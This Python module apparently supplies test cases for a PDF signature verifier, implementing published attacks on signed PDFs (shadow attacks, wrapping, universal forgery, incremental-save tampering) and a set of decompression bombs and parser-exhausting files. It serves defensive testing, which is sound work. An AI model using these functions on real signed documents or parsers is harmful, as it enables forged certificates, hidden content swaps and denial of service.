"""What people do to a sealed PDF: the attacks that are published, each as a function from a sealed certificate to what is handed in.

Shadow attacks: Mainka, Mladenov, Rohlmann, „Shadow Attacks: Hiding and Replacing Content in Signed PDFs“, NDSS 2021. Universal forgery,
wrapping and incremental saving: Mladenov et al., „1 Trillion Dollar Refund“, CCS 2019. Here all come after signing: the product draws and
signs in one go, and signs nothing that it is handed.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from io import BytesIO

import pypdf
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NumberObject,
    pdf_name,
    pdf_string,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pypdf.annotations import FreeText
from pypdf.generic import RectangleObject

Attack = Callable[[bytes], bytes]


def _updated(content: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """With a revision at its end."""
    writer = IncrementalPdfFileWriter(BytesIO(content), strict=False)
    change(writer)
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0]


def annotation(content: bytes) -> bytes:
    """A note over the name, by pypdf."""
    writer = pypdf.PdfWriter(BytesIO(content), incremental=True)
    writer.add_annotation(0, FreeText(text="WANG WU", rect=RectangleObject((300, 380, 500, 420))))
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def another_page(content: bytes) -> bytes:
    """A second page, by pypdf."""
    writer = pypdf.PdfWriter(BytesIO(content), incremental=True)
    writer.add_blank_page(842, 595)
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def _appended(content: bytes, objects: dict[int, bytes], *, freed: int | None = None, root: int | None = None) -> bytes:
    """With objects under these numbers at its end, and a table of them."""
    made, entries = content, []
    for number, body in objects.items():
        entries.append(b"%d 1\n%010d 00000 n \n" % (number, len(made)))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if freed is not None:
        entries.append(b"%d 1\n0000000000 00001 f \n" % freed)
    before, top = re.findall(rb"startxref\s+(\d+)", content)[-1], re.findall(rb"/Root (\d+) 0 R", content)[-1]
    told = b"<< /Size 9999 /Root %d 0 R /Prev %s >>" % (root or int(top), before)
    return made + b"xref\n" + b"".join(entries) + b"trailer\n" + told + b"\nstartxref\n%d\n%%%%EOF\n" % len(made)


def _stream(told: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (told, len(body), body)


def overwritten(content: bytes) -> bytes:
    """Other content of the page under the same number."""
    number = int(re.search(rb"/Contents (\d+) 0 R", content)[1])  # type: ignore[index]
    return _appended(content, {number: _stream(b"", b"BT (WANG WU) Tj ET")})


def photo_replaced(content: bytes) -> bytes:
    """Replace (shadow attack): another picture under the number of the photo."""
    page = pypdf.PdfReader(BytesIO(content)).pages[0]
    number = next(one.idnum for one in page["/Resources"]["/XObject"].values() if one.get_object()["/Subtype"] == "/Image")
    told = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    return _appended(content, {number: _stream(told, b"x")})


def font_replaced(content: bytes) -> bytes:
    """Replace: the same letters, drawn as others – what looks harmless, because a font is not content."""
    number = int(re.search(rb"/FontFile2 (\d+) 0 R", content)[1])  # type: ignore[index]
    return _appended(content, {number: _stream(b"", b"another font")})


def overlay_hidden(content: bytes) -> bytes:
    """Hide: the entry of an object in the table is taken away, so that readers show what lies below."""
    return _appended(content, {}, freed=int(re.search(rb"/FormXob\.\w+ (\d+) 0 R", content)[1]))  # type: ignore[index]


_OTHER_PAGES = {
    9002: b"<< /Type /Pages /Kids [9003 0 R] /Count 1 >>",
    9003: b"<< /Type /Page /Parent 9002 0 R /MediaBox [0 0 842 595] >>",
}


def root_swapped(content: bytes) -> bytes:
    """Hide and replace: another catalog with other pages, and the trailer names it."""
    return _appended(content, {9001: b"<< /Type /Catalog /Pages 9002 0 R >>", **_OTHER_PAGES}, root=9001)


def pages_swapped(content: bytes) -> bytes:
    """The same, and the fields are still named, so that readers find both signatures."""
    form = re.findall(rb"/AcroForm (\d+) 0 R", content)[-1]
    return _appended(content, {9001: b"<< /Type /Catalog /Pages 9002 0 R /AcroForm %s 0 R >>" % form, **_OTHER_PAGES}, root=9001)


def seal_moved(content: bytes) -> bytes:
    """Replace: the look of a seal."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        widget = _page(writer)["/Annots"][0].get_object()
        widget[pdf_name("/Rect")] = ArrayObject(FloatObject(number) for number in (0, 0, 800, 500))
        writer.mark_update(_page(writer)["/Annots"].raw_get(0))

    return _updated(content, change)


def seal_taken_away(content: bytes) -> bytes:
    """The site's seal is no longer on the page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page[pdf_name("/Annots")] = ArrayObject([page["/Annots"].raw_get(0)])
        writer.update_container(page)

    return _updated(content, change)


def form_added(content: bytes) -> bytes:
    """A field with a default value that lies over the page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        told = {
            "/Type": pdf_name("/Annot"),
            "/Subtype": pdf_name("/Widget"),
            "/FT": pdf_name("/Tx"),
            "/T": pdf_string("name"),
            "/V": pdf_string("WANG WU"),
            "/Rect": ArrayObject(NumberObject(number) for number in (300, 380, 500, 420)),
        }
        added = writer.add_object(DictionaryObject({pdf_name(name): value for name, value in told.items()}))
        writer.root["/AcroForm"]["/Fields"].append(added)
        _page(writer)["/Annots"].append(added)
        writer.update_container(writer.root["/AcroForm"])
        writer.update_container(_page(writer))

    return _updated(content, change)


def objects_without_table(content: bytes) -> bytes:
    """Incremental saving (CCS 2019): objects at the end, without a table or a trailer, which some readers still take."""
    return content + b"\n9001 0 obj\n<< /Type /Catalog >>\nendobj\n"


def wrapped(content: bytes) -> bytes:
    """Wrapping (CCS 2019): the signed second part is moved to the end, and another one put where readers look."""
    found = list(re.finditer(rb"/ByteRange \[\s*0 (\d+) (\d+) (\d+)\s*\]", content))[-1]
    length, after, rest = (int(one) for one in found.groups())
    evil = b">" + content[after + 1 : after + rest].replace(b"/Root", b"/Rood", 1)
    told = b"/ByteRange [0 %d %d %d]" % (length, after + len(evil), rest)
    told = told.ljust(found.end() - found.start())
    return content[: found.start()] + told + content[found.end() : after] + evil + content[after : after + rest]


def without_range(content: bytes) -> bytes:
    """Universal forgery (CCS 2019): nothing is signed."""
    return re.sub(rb"/ByteRange \[[^\]]*\]", lambda one: b"/ByteRange [0 0 0 0]".ljust(len(one[0])), content)


def without_contents(content: bytes) -> bytes:
    """Universal forgery: no signature."""
    return re.sub(rb"/Contents <[0-9A-F]*>", lambda one: b"/Contents <>".ljust(len(one[0])), content)


def null_contents(content: bytes) -> bytes:
    """Universal forgery: a signature of zeros."""
    return re.sub(rb"/Contents <([0-9A-F]*)>", lambda one: b"/Contents <" + b"0" * len(one[1]) + b">", content)


AFTER: dict[str, tuple[Attack, str]] = {
    "a note": (annotation, "批注"),
    "another page": (another_page, "页数由 1 页变为 2 页"),
    "content overwritten": (overwritten, "被改写"),
    "photo replaced": (photo_replaced, "图片"),
    "font replaced": (font_replaced, "被改写"),
    "overlay hidden": (overlay_hidden, "被删除"),
    "root swapped": (root_swapped, "读者看不到它"),
    "pages swapped": (pages_swapped, "文件的目录被换成了另一个"),
    "seal moved": (seal_moved, "签章栏"),
    "seal taken away": (seal_taken_away, "被移走"),
    "form added": (form_added, "批注、附件或表单"),
    "objects without a table": (objects_without_table, "又被写入了 40 个字节"),
    "a blank line": (lambda content: content + b"\n", "又被写入了 1 个字节"),
}
"""What is added after signing, with what is told of it besides how many bytes it has."""
FORGED: dict[str, Attack] = {
    "wrapped": wrapped,
    "without range": without_range,
    "without contents": without_contents,
    "null contents": null_contents,
}


_END = b"startxref\n9\n%%EOF\n"


def _xref_bomb(filters: bytes, layers: int) -> bytes:
    packed = bytes(200 * 1024 * 1024)
    for _ in range(layers):
        packed = zlib.compress(packed, 9)
    told = b"<< /Type /XRef /Size 99999999 /W [1 2 2] /Root 2 0 R /Filter %s /Length %d >>" % (filters, len(packed))
    return b"%PDF-1.7\n1 0 obj\n" + told + b"\nstream\n" + packed + b"\nendstream\nendobj\n" + _END


def _loops() -> bytes:
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] >> >>\nendobj\n"
    pages = b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
    return _tabled(catalog, pages, b"3 0 obj\n<< /FT /Sig /T (a) /Kids [3 0 R] >>\nendobj\n")


BOMBS: dict[str, Callable[[], bytes]] = {
    "xref stream": lambda: _xref_bomb(b"/FlateDecode", 1),
    "xref stream, twice": lambda: _xref_bomb(b"[/FlateDecode /FlateDecode]", 2),
    "deep": lambda: _tabled(b"1 0 obj\n" + b"[" * 500_000 + b"\nendobj\n"),
    "itself before": lambda: b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 2 /Prev 9 >>\n" + _END,
    "loops": _loops,
    "many ranges": lambda: b"%PDF-1.7\n" + b"".join(b"/ByteRange [0 9 %d 9]" % one for one in range(20, 200_000)) + _END,
    "open range": lambda: b"%PDF-1.7\n" + b"/ByteRange [ 0 " * 300_000 + _END,
    "blanks": lambda: b"%PDF-1.7\n" + (b"/ByteRange" + b" " * 100_000) * 50 + _END,
    "long hole": lambda: b"%PDF-1.7\n/ByteRange [0 64 8000066 9]".ljust(64) + b"<" + b"3080" * 2_000_000 + b">" + _END,
}
"""Files that ask for more memory or time than there is, or never end."""


def _tabled(*objects: bytes) -> bytes:
    body = b"%PDF-1.7\n" + b"".join(objects)
    offsets = [match.start() for match in re.finditer(rb"^\d+ 0 obj", body, re.MULTILINE)]
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1) + b"".join(b"%010d 00000 n \n" % one for one in offsets)
    return body + table + b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, len(body))
